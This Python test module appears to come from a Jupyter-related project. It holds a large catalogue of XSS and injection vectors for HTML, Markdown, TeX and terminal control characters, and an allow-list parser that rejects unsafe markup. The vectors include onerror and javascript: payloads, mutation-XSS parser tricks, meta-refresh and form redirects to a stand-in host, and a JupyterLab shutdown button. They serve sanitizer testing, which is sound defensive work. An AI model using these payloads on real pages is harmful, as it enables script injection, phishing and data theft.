"""Attack vectors from notebooks, chats and mail, and an allow-list for our own HTML.

A vector that runs sets ``window.ran``; one that loads asks the host ``stranger.invalid``.
"""

# ruff: noqa: E501 - one vector per line

from __future__ import annotations

import re
from html.parser import HTMLParser

RAN = "window.ran=1"
AWAY = "http://stranger.invalid"

HTML = [
    f"<script>{RAN}</script>",
    f"<script src={AWAY}/a.js></script>",
    f"<img src=x onerror={RAN}>",
    f"<img src='{AWAY}/a.png' srcset='{AWAY}/b.png 1x'>",
    f"<picture><source srcset='{AWAY}/c.png'><img></picture>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'/>\">",
    f"<svg onload={RAN}><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RAN}'/><text y=9>x</text></a></svg>",
    f"<svg><image href='{AWAY}/d.png'/><use href='{AWAY}/e.svg#a'/></svg>",
    f"<math><a xlink:href='javascript:{RAN}'>x</a></math>",
    f"<math href='javascript:{RAN}'>x</math>",
    f"<iframe srcdoc='<script>parent.{RAN[7:]}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RAN[7:]}' name=jp></iframe>",
    f"<object data='javascript:{RAN}'></object><embed src='{AWAY}/f.swf'>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RAN}><select autofocus onfocus={RAN}></select>",
    f"<p contenteditable autofocus onfocus={RAN} tabindex=1>x</p>",
    f"<video poster='{AWAY}/g.png'><source onerror={RAN}></video><audio src=x onerror={RAN}>",
    f"<body onload={RAN} background='{AWAY}/h.png'><marquee onstart={RAN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'><a href=there>x</a>",
    f"<form action='{AWAY}'><input name=a><button formaction='javascript:{RAN}'>x</button></form>",
    f"<link rel=stylesheet href='{AWAY}/i.css'><link rel=prefetch href='{AWAY}/j'>",
    f"<style>@import '{AWAY}/k.css';body{{display:none}}.jp-Cell{{background:url({AWAY}/l)}}</style>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url({AWAY}/m.png)'>x</div>",
    f"<table background='{AWAY}/n.png'><tr><td background='{AWAY}/o.png'>x</td></tr></table>",
    "<button data-commandlinker-command='filemenu:shutdown' data-commandlinker-args='{}'>x</button>",
    "<div id=jp-main-dock-panel class='jp-Dialog lm-mod-hidden' name=body>x</div>",
    "<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
    f"<a href='javascript:{RAN}'>x</a><a href='&#106;ava&Tab;script:{RAN}'>x</a>",
    f"<a href='data:text/html,<script>{RAN}</script>' ping='{AWAY}/q' target=_top>x</a>",
    f"<a href='{AWAY}' onclick={RAN} style='position:fixed;inset:0'>x</a><a href=//stranger.invalid>x</a>",
    "<a href='/lab?reset'>x</a><a href='#x'>x</a><a href='command:x'>x</a>",
    f"</pre></div></details></div></div><script>{RAN}</script>",
    f"</textarea></title></style></script><img src=x onerror={RAN}>",
    f"<!--><img src=x onerror={RAN}>--><![CDATA[<img src=x onerror={RAN}>]]><?x <img src=x onerror={RAN}>?>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
    f"<template><img src=x onerror={RAN}></template><xmp><img src=x onerror={RAN}></xmp>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RAN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RAN} src>'>",
    f'"><img src=x onerror={RAN}> \'><img src=x onerror={RAN}>',
    f"<img alt='`<img src=x onerror={RAN}>`' src=x>",
    f"&lt;img src=x onerror={RAN}&gt; &#60;script&#62;{RAN}&#60;/script&#62;",
]  # fmt: skip

MARKDOWN = [
    f"![x]({AWAY}/p.png) ![x](javascript:{RAN}) ![x](data:image/svg+xml,%3Csvg%20onload={RAN}%3E)",
    f"[x](javascript:{RAN}) [x](JaVaScRiPt:{RAN}) <javascript:{RAN}> [x](vbscript:{RAN})",
    f"[x][y]\n\n[y]: javascript:{RAN}\n\n[x](&#106;avascript:{RAN}) [x](java&Tab;script:{RAN})",
    f'[x](http://a.invalid/"onmouseover="{RAN}) [x](<http://a.invalid/\'onclick={RAN}>)',
    f'![x"onerror="{RAN}](http://a.invalid/ "onerror={RAN}") [x](http://a.invalid/ \'><script>\')',
    f"[<img src=x onerror={RAN}>](http://a.invalid/) [x](http://a.invalid/?a>b<c$d\\e)",
    f'```python"onload="{RAN}\n</code></pre><img src=x onerror={RAN}>\n```',
    f"~~~html\n<script>{RAN}</script>\n~~~",
    f"| <img src=x onerror={RAN}> |\n|---|\n| `</code><img src=x onerror={RAN}>` |",
    f"# <img src=x onerror={RAN}> {{onclick={RAN}}}\n\n<div onclick={RAN}>\n\n*x*\n\n</div>",
    f"&#60;img src=x onerror={RAN}&#62; &NewLine;&lt;script&gt;",
    "{{7*7}} ${7*7} <%= 7*7 %> [toc] [[x]] :smile: {::nomarkdown}",
]

TEX = [
    rf"$\href{{javascript:{RAN}}}{{x}}$ $\url{{javascript:{RAN}}}$",
    rf"$$\href{{javascript:{RAN}}}{{x}}$$",
    rf"\(\href{{javascript:{RAN}}}{{x}}\) \[\style{{background:url({AWAY}/r)}}{{x}}\]",
    r"$\style{position:fixed;top:0;left:0;font-size:999px}{x}$ $\class{jp-Dialog}{x}$",
    rf"$\cssId{{jp-main-dock-panel}}{{x}}$ $\unicode[a;background:url({AWAY}/s)]{{65}}$",
    rf"$\require{{html}}\data{{commandlinker-command=a}}{{x}}$ $\htmlClass{{a}}{{x}} \includegraphics{{{AWAY}/t.png}}$",
    r"$$\def\frac#1#2{hacked}\gdef\sqrt{hacked}\newcommand{\x}{\href}\let\y\href$$",
    rf"\begin{{equation}}\href{{javascript:{RAN}}}{{x}}\end{{equation}}",
    rf"$a$\href{{javascript:{RAN}}}{{x}}$b$ \\(\href{{javascript:{RAN}}}{{x}}\\)",
    rf"\(a{{$\)}}\href{{javascript:{RAN}}}{{x}}\(b\) $\text{{<img src=x onerror={RAN}>}}$",
    r"\(a$\hre\)f{javascript:x}{x}\(c$ b\) $\text{$\href{x}{y}$}$",
]  # fmt: skip

CONTROLS = [
    "\x1b]8;;http://stranger.invalid\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred \x1b]0;title\x07 \x9b1m",
    "\x00NUL \x08\x08 \x7f \x85 \rover \x0b\x0c",
    "\u202egnp.exe\u202c \u2066a\u2069 \u200fb\u200e \u061cc",
    "pay\u200bpal \ufeffx \u2060y \u00ad \u3164z \u180e \U000e0041\U000e0042 \ue000",
    "\ud800 lone \udfff",
    "line\u2028separator\u2029end",
]

VECTORS = [*HTML, *MARKDOWN, *TEX, *CONTROLS]

_TAGS = set(
    "a b blockquote br caption code del details div em h1 h2 h3 h4 h5 h6 hr i img li ol p pre s"
    " span strong sub summary sup table tbody td tfoot th thead tr ul".split()
)
_VOID = {"br", "hr", "img"}
_ATTRIBUTES = {
    "a": {"href", "rel"},
    "code": {"style"},
    "details": {"open", "style"},
    "div": {"style", "tabindex"},
    "li": {"style"},
    "img": {"alt", "height", "src", "style", "width"},
    "ol": {"start"},
    "pre": {"style", "tabindex"},
    "span": {"style"},
    "summary": {"style"},
    "td": {"colspan", "rowspan", "style"},
    "th": {"colspan", "rowspan", "style"},
}
_PROPERTIES = set(
    "background-color border border-left border-radius border-top color contain cursor display"
    " font-family font-size font-weight height line-height list-style-type margin max-height max-width object-fit"
    " object-position opacity overflow overflow-wrap overflow-x overflow-y padding text-align"
    " vertical-align white-space word-break".split()
)
_VALUE = re.compile(r"(?:[\w.#%, -]|(?:rgba|var|color-mix)\([\w.#%, -]*(?:\)|$))*\)*")
_VALUES = {
    "href": re.compile(r"(?:https?://|mailto:)[^\s\"<>]+", re.IGNORECASE),
    "src": re.compile(r"data:image/(?:png|jpeg);base64,[A-Za-z0-9+/\n]+=*\n?"),
    "rel": re.compile("noopener noreferrer"),
    "tabindex": re.compile("0"),
    "width": re.compile(r"\d+"),
    "height": re.compile(r"\d+"),
    "start": re.compile(r"\d+"),
    "colspan": re.compile(r".*"),
    "rowspan": re.compile(r".*"),
}
_UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff"
    "\u00ad\u3164\u180e\U000e0000-\U000e007f\ud800-\udfff]"
)
_TEX = re.compile(
    r"\\(?:href|url|style|class|cssId|data|html|unicode|require|def|gdef|let|newcommand"
    r"|includegraphics)(?![a-zA-Z])"
)


class Checked(HTMLParser):
    """Parser for our HTML that fails on anything not plainly harmless.

    Attributes
    ----------
    text : str
        The visible text.
    children : list of str
        Tags of the elements directly within the outermost one.
    """

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.children: list[str] = []
        self._open: list[str] = []
        self._run = ""
        self.feed(html)
        self.close()
        assert not self._open, f"left open: {self._open}"
        self._end_run()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, f"<{tag}>"
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), attrs
        assert set(names) <= _ATTRIBUTES.get(tag, set()), (tag, attrs)
        for name, value in attrs:
            self._check(name, value or "")
        self._end_run()
        if len(self._open) == 1:
            self.children.append(tag)
        if tag not in _VOID:
            self._open.append(tag)

    def _check(self, name: str, value: str) -> None:
        assert not _UNSEEN.search(value), (name, value)
        if name == "style":
            for declaration in filter(None, value.split(";")):
                prop, _, found = declaration.partition(":")
                assert prop.strip() in _PROPERTIES, value
                assert _VALUE.fullmatch(found), value
        elif name in _VALUES:
            assert _VALUES[name].fullmatch(value), (name, value)

    def handle_endtag(self, tag: str) -> None:
        self._end_run()
        assert self._open, f"</{tag}> closes what is not ours"
        assert self._open.pop() == tag, f"</{tag}>"

    def handle_data(self, data: str) -> None:
        assert not _UNSEEN.search(data), repr(data)
        self.text += data
        if not {"pre", "code"} & set(self._open):
            self._run += data

    def _end_run(self) -> None:
        """Check a run of text without elements in it, the unit that MathJax reads."""
        if self._run not in ("$", "\\"):
            assert not _TEX.search(self._run), self._run
            assert "$" in self._run or "\\" not in self._run, self._run
        self._run = ""

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def check_plain(text: str) -> None:
    """Fail on text with hidden characters, or that moves the cursor."""
    assert not _UNSEEN.search(text), repr(text)
